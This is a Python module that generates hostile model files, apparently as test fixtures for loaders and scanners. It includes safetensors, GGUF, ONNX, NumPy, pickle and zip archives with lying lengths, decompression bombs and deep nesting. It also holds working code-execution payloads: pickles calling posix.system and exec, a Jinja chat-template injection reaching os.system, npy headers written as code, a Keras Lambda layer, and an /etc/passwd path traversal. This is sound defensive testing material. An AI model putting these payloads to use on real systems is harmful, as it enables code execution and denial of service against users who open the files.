"""Model files made to break whoever opens them: lying lengths, bombs, deep nesting, and code that would run.

Every function that can carry code takes the `Trap` whose file would be touched and whose port would be called.
"""

from __future__ import annotations

import bz2
import io
import json
import lzma
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

DEEP = 100_000
HUGE = 2**63 - 1


def safetensors(header: bytes, data: bytes = b"", *, length: int | None = None) -> bytes:
    """A safetensors file whose header length may lie."""
    return struct.pack("<Q", len(header) if length is None else length) + header + data


def lying_safetensors() -> dict[str, bytes]:
    """Headers that are cut, too long, too deep, doubled, or that promise more than there is."""

    def tensor(shape: list[int], offsets: list[int], dtype: str = "F32") -> bytes:
        return json.dumps({"w": {"dtype": dtype, "shape": shape, "data_offsets": offsets}}).encode()

    honest = tensor([2], [0, 8])
    return {
        "cut.safetensors": safetensors(honest)[:20],
        "empty-header.safetensors": safetensors(b""),
        "only-length.safetensors": struct.pack("<Q", 8),
        "endless.safetensors": safetensors(honest, bytes(8), length=2**64 - 1),
        "longer-than-file.safetensors": safetensors(honest, bytes(8), length=len(honest) + 9),
        "out-of-file.safetensors": safetensors(tensor([2**40], [0, 2**42]), bytes(8)),
        "overflow.safetensors": safetensors(tensor([2**62, 2**62, 4], [0, 8]), bytes(8)),
        "negative.safetensors": safetensors(tensor([-2], [8, 0]), bytes(8)),
        "digits.safetensors": safetensors(honest.replace(b"[2]", b"[" + b"9" * 100_000 + b"]"), bytes(8)),
        "deep.safetensors": safetensors(b'{"w":' + b"[" * DEEP + b"]" * DEEP + b"}"),
        "doubled.safetensors": safetensors(b'{"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},' + honest[1:]),
        "not-utf8.safetensors": safetensors(b'{"\xff\xfe":{"dtype":"F32","shape":[],"data_offsets":[0,4]}}', bytes(4)),
        "many.safetensors": safetensors(
            b"{" + b",".join(b'"t%d":{"dtype":"U8","shape":[0],"data_offsets":[0,0]}' % i for i in range(60_000)) + b"}"
        ),
    }


def gguf(tensors: int, pairs: int, body: bytes = b"", version: int = 3) -> bytes:
    """The head of a GGUF file, with counts that need not be true."""
    return b"GGUF" + struct.pack("<IQQ", version, tensors, pairs) + body


def gguf_text(text: bytes) -> bytes:
    """A GGUF string."""
    return struct.pack("<Q", len(text)) + text


def gguf_template(template: bytes) -> bytes:
    """A GGUF file with nothing but a chat template."""
    key = gguf_text(b"tokenizer.chat_template") + struct.pack("<I", 8)
    return gguf(0, 1, key + gguf_text(template))


def lying_gguf(trap: str) -> dict[str, bytes]:
    """Counts and lengths without end, arrays in arrays, and chat templates that reach for the system."""
    array = gguf_text(b"a") + struct.pack("<I", 9)
    attack = "{{ cycler.__init__.__globals__.os.system('touch " + trap + "') }}"
    return {
        "cut.gguf": gguf(1, 1)[:17],
        "endless.gguf": gguf(2**64 - 1, 2**64 - 1),
        "pairs.gguf": gguf(0, 2**40, gguf_text(b"k") + struct.pack("<IB", 0, 1)),
        "tensors.gguf": gguf(2**40, 0, gguf_text(b"t") + struct.pack("<I", 2**32 - 1)),
        "text.gguf": gguf(0, 1, struct.pack("<Q", HUGE) + b"k"),
        "array.gguf": gguf(0, 1, array + struct.pack("<IQ", 0, 2**60)),
        "arrays.gguf": gguf(0, 1, array + struct.pack("<IQ", 9, 1) * DEEP + struct.pack("<IQB", 0, 1, 1)),
        "overflow.gguf": gguf(1, 0, gguf_text(b"t") + struct.pack("<I4QIQ", 4, *[2**62] * 4, 0, 0)),
        "version.gguf": gguf(0, 0, version=2**32 - 1),
        "attack.gguf": gguf_template(attack.encode()),
        "deep-template.gguf": gguf_template(b"{{ " + b"(" * DEEP + b")" * DEEP + b" }}"),
        "blocks-template.gguf": gguf_template(b"{% if a %}" * 5000 + b"{% endif %}" * 5000),
        "power-template.gguf": gguf_template(b"{{ 9**9**9**9 }}{{ 'a' * 10**10 }}"),
    }


def _varint(value: int) -> bytes:
    data = b""
    while value > 0x7F:
        data += bytes([value & 0x7F | 0x80])
        value >>= 7
    return data + bytes([value])


def field(number: int, value: int | bytes) -> bytes:
    """A protobuf field: a varint or bytes with their length."""
    if isinstance(value, int):
        return _varint(number << 3) + _varint(value)
    return _varint(number << 3 | 2) + _varint(len(value)) + value


def lying_onnx() -> dict[str, bytes]:
    """Messages that are cut or too deep, and tensors whose data lie in other people's files."""
    deep = b""
    for _ in range(3000):  # GraphProto.node -> NodeProto.attribute -> AttributeProto.g
        deep = field(1, field(5, field(6, deep)))
    outside = [(b"location", b"../../../../etc/passwd"), (b"offset", b"9" * 50), (b"length", b"-1")]
    tensor = field(1, HUGE) + field(2, 1) + field(8, b"w") + field(14, 1)
    tensor += b"".join(field(13, field(1, key) + field(2, value)) for key, value in outside)
    node = field(4, b"Run") + field(7, b"evil.domain")
    head = field(1, 8) + field(8, field(2, 17))
    return {
        "cut.onnx": (head + field(7, field(1, node) * 20))[:40],
        "deep.onnx": head + field(7, deep),
        "outside.onnx": head + field(7, field(1, node) + field(5, tensor)),
        "lying.onnx": head + _varint(7 << 3 | 2) + _varint(2**62) + field(1, node),
        "varint.onnx": head + _varint(7 << 3 | 2) + b"\xff" * 40,
        "nodes.onnx": head + field(7, field(1, b"") * 300_000),
    }


def npy(header: bytes, data: bytes = b"", *, length: int | None = None, version: int = 2) -> bytes:
    """A NumPy file whose header is any text."""
    size = len(header) if length is None else length
    return b"\x93NUMPY" + bytes([version, 0]) + struct.pack("<I" if version > 1 else "<H", size) + header + data


def lying_npy(trap: str) -> dict[str, bytes]:
    """Headers that are code, too deep or too long, and an array of objects that is a pickle."""
    shape = b"{'descr': '%s', 'fortran_order': False, 'shape': (%s,), }\n"
    return {
        "cut.npy": b"\x93NUMPY\x01",
        "length.npy": npy(shape % (b"<f8", b"2"), bytes(16), length=2**32 - 1),
        "code.npy": npy(b"__import__('os').system('touch %s')\n" % trap.encode()),
        "deep.npy": npy(b"(" * DEEP + b")" * DEEP),
        "shape.npy": npy(shape % (b"<f8", b",".join([b"4611686018427387904"] * 30))),
        "digits.npy": npy(shape % (b"<f8", b"9" * 50_000)),
        "objects.npy": npy(shape % (b"|O", b"1"), system_pickle(trap)),
        "version.npy": npy(shape % (b"<f8", b"2"), version=255),
    }


def system_pickle(trap: str) -> bytes:
    """A pickle that touches the trap when it is opened."""
    return b"cposix\nsystem\n(S'touch " + trap.encode() + b"'\ntR."


def calling_pickle(port: int) -> bytes:
    """A pickle that connects to the trap when it is opened."""
    return b"csocket\ncreate_connection\n((S'127.0.0.1'\nI%d\nttR." % port


def hostile_pickles(trap: str, port: int) -> dict[str, bytes]:
    """Code, bombs of memo, depth and digits, and lengths that lie."""
    laughs = b"\x80\x02]q\x00" + b"".join(b"(h%c" % i + b"h%c" % i * 9 + b"lq%c" % (i + 1) for i in range(40)) + b"."
    tuples = b"\x80\x02)" + b"2\x86" * 200 + b"."
    return {
        "system.pkl": system_pickle(trap),
        "calls.pkl": calling_pickle(port),
        "stack-global.pkl": b"\x80\x04\x8c\x08builtins\x8c\x04exec\x93\x8c"
        + bytes([len(f"open({trap!r},'w')")])
        + f"open({trap!r},'w')".encode()
        + b"\x85R.",
        "build.pkl": b"\x80\x02cbuiltins\neval\nU\x0ccopyreg.sys\x85R}U\x01ab.",
        "persistent.pkl": b"\x80\x02U\x01xQ.",
        "extension.pkl": b"\x80\x02\x84\xff\xff\xff\x7f.",
        "cut.pkl": system_pickle(trap)[:-5],
        "laughs.pkl": laughs,
        "tuples.pkl": tuples,
        "deep-tuple.pkl": b"\x80\x02)" + b"\x85" * 1_000_000 + b".",
        "deep-list.pkl": b"\x80\x02" + b"(" * 500_000 + b"l" * 500_000 + b".",
        "memo-index.pkl": b"\x80\x02Nr\xff\xff\xff\x7f.",
        "memo-index-long.pkl": b"(lp99999999999999999999\n.",
        "length.pkl": b"\x80\x04\x8d" + struct.pack("<Q", HUGE) + b"x.",
        "bytes8.pkl": b"\x80\x04\x8e" + struct.pack("<Q", 2**40) + b"x.",
        "bytearray8.pkl": b"\x80\x05\x96" + struct.pack("<Q", 2**34) + b"x.",
        "long4.pkl": b"\x80\x02\x8b" + struct.pack("<i", 2**31 - 1) + b"x.",
        "frame.pkl": b"\x80\x04\x95" + struct.pack("<Q", HUGE) + b"N.",
        "digits.pkl": b"I" + b"9" * 2_000_000 + b"\n.",
        "long-digits.pkl": b"L" + b"9" * 2_000_000 + b"L\n.",
        "name.pkl": b"c" + b"a" * 3_000_000 + b"\n" + b"b" * 3_000_000 + b"\n.",
        "line.pkl": b"cposix",
        "escapes.pkl": b"c\x1b[2J<script>alert(1)</script>\nsy\xe2\x80\xaestem\n(tR.",
        "many-names.pkl": b"\x80\x02" + b"".join(b"cmod%d\nf\n0" % i for i in range(20_000)) + b"N.",
        "streams.pkl": b"N." * 10_000,
    }


def ten_million_opcodes() -> bytes:
    """Ten million opcodes: a list that grows and shrinks its stack."""
    return b"\x80\x02]" + b"N0" * 5_000_000 + b"."


def memo_bomb() -> bytes:
    """Millions of memo entries."""
    return b"\x80\x04N" + b"\x94" * 12_000_000 + b"."


def compressed_bomb(method: str) -> bytes:
    """A pickle of 300 MB in a few kilobytes, under a compression that joblib opens."""
    made: dict[str, Callable[[], Any]] = {
        "zlib": lambda: zlib.compressobj(9),
        "gz": lambda: zlib.compressobj(9, wbits=31),
        "bz2": bz2.BZ2Compressor,
        "xz": lambda: lzma.LZMACompressor(preset=0),
    }
    compressor, zeros = made[method](), bytes(1 << 20)
    data = compressor.compress(b"\x80\x04\x8e" + struct.pack("<Q", 300 << 20))
    data += b"".join(compressor.compress(zeros) for _ in range(300))
    return bytes(data + compressor.compress(b".") + compressor.flush())


def zipped(files: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A zip of these files."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return out.getvalue()


def flat_zip_bomb(name: str, megabytes: int = 300) -> bytes:
    """One entry of zeros."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive, archive.open(name, "w") as member:
        for _ in range(megabytes):
            member.write(bytes(1 << 20))
    return out.getvalue()


def nested_zip_bomb(levels: int = 6) -> bytes:
    """Zips in zips, each with ten copies of the one below."""
    inner = flat_zip_bomb("zeros", 10)
    for level in range(levels):
        inner = zipped({f"{level}-{copy}.zip": inner for copy in range(10)})
    return inner


def overlapping_zip(entries: int = 2000, name: Callable[[int], str] = "{}".format) -> bytes:
    """Many entries in the directory that all have the same bytes (D. Fifield, WOOT 2019, in its simplest form)."""
    one = flat_zip_bomb(name(0), 20)
    directory = one.rfind(b"PK\x01\x02")
    entry = one[directory : one.rfind(b"PK\x05\x06")]
    head = entry[:46]
    rows = b"".join(
        head[:28] + struct.pack("<H", len(name(i).encode())) + head[30:] + name(i).encode() for i in range(entries)
    )
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, entries, entries, len(rows), directory, 0)
    return one[:directory] + rows + end


def hostile_zips(trap: str) -> dict[str, bytes]:
    """Models in zips: PyTorch, Keras and NumPy, with bombs, lies and code."""
    layer = {"class_name": "Lambda", "config": {"function": {"class_name": "__lambda__", "config": {"code": "4wEA"}}}}
    weights = {"model.weights.h5": b"\x89HDF\r\n\x1a\n" + bytes(40), "metadata.json": b"{}"}
    keras = zipped({"config.json": json.dumps({"config": {"layers": [layer]}}).encode(), **weights})
    torch = zipped({"m/data.pkl": system_pickle(trap), "m/version": b"3\n"}, zipfile.ZIP_STORED)
    lying = bytearray(torch)
    at = lying.rfind(b"PK\x01\x02")
    lying[at + 20 : at + 28] = b"\xff" * 8  # sizes in the directory only
    return {
        "lambda.keras": keras,
        "cut.keras": keras[: len(keras) // 2],
        "deep.keras": zipped({"config.json": b'{"a":' * DEEP + b"1" + b"}" * DEEP, **weights}),
        "bomb.keras": zipped({"config.json": b'"' + b" " * 120_000_000 + b'"', **weights}),
        "text.keras": zipped({"config.json": b"\xff\xfe{", **weights}),
        "torch.pt": torch,
        "lying.pt": bytes(lying),
        "bomb.pt": flat_zip_bomb("m/data.pkl"),
        "overlap.pt": overlapping_zip(8, "m{}/data.pkl".format),
        "bomb.npz": flat_zip_bomb("a.npy"),
        "objects.npz": zipped({"a.npy": lying_npy(trap)["objects.npy"], "../../b.npy": npy(b"")}),
        "directory.pt": torch[:-22] + struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 65535, 65535, 2**32 - 2, 0, 0),
        "nested.zip": nested_zip_bomb(),
    }
